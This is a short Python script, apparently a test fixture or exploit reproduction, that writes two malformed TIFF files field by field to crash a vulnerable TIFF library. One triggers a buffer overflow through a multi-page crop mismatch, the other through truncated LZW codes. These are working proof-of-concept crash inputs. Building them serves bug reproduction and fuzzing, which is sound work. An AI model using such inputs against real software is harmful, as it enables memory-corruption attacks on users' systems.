"""Makes the two inputs that crash the vulnerable tiff: small TIFF files, written field by field."""

import struct


def _page(width, height, bits, samples, photometric, sample_format, data, base, compression):
    """One uncompressed single-strip page at offset `base`: its bytes, its directory's offset, its end."""
    arrays = b""
    after = base + len(data)
    tags = [
        (256, 4, 1, width),
        (257, 4, 1, height),
        (259, 3, 1, compression),
        (262, 3, 1, photometric),
        (273, 4, 1, base),
        (277, 3, 1, samples),
        (278, 4, 1, height),
        (279, 4, 1, len(data)),
        (284, 3, 1, 1),
    ]
    if samples == 1:
        tags += [(258, 3, 1, bits), (339, 3, 1, sample_format)]
    else:
        arrays = struct.pack(f"<{samples}H", *[bits] * samples)
        arrays += struct.pack(f"<{samples}H", *[sample_format] * samples)
        tags += [(258, 3, samples, after), (339, 3, samples, after + 2 * samples)]
    directory = struct.pack("<H", len(tags))
    for tag, kind, count, value in sorted(tags):
        held = struct.pack("<HH", value, 0) if kind == 3 and count == 1 else struct.pack("<I", value)
        directory += struct.pack("<HHI", tag, kind, count) + held
    start = after + len(arrays)
    return data + arrays + directory, start, start + len(directory) + 4


def _file(pages, compression=1):
    """Chains pages, each given as the arguments of `_page` without its offset."""
    made, base = [], 8
    for page in pages:
        made.append(_page(*page, base, compression))
        base = made[-1][2]
    starts = [start for _, start, _ in made] + [0]
    body = b"".join(data + struct.pack("<I", starts[i + 1]) for i, (data, _, _) in enumerate(made))
    return b"II*\0" + struct.pack("<I", starts[0]) + body


def crop():
    """Two pages whose second region grows: the buffer of the first page's second region is too small."""
    rows = bytes(range(100))
    return _file([(100, 20, 8, 1, 1, 1, rows * 20), (100, 100, 8, 1, 1, 1, rows * 100)])


def lzw():
    """Rows of LZW codes that end too early: read again, a code meets the table of what came after it."""
    clear, longest = 256, 265
    first = [clear, *b"ab", 258, *range(260, longest + 1)]
    second = [longest, clear, *b"cdefghij"]
    bits = "".join(f"{code:09b}" for code in first + second)
    bits += "0" * (-len(bits) % 8)
    data = int(bits, 2).to_bytes(len(bits) // 8, "big")
    return _file([(37, 4, 8, 1, 1, 1, data)], compression=5)
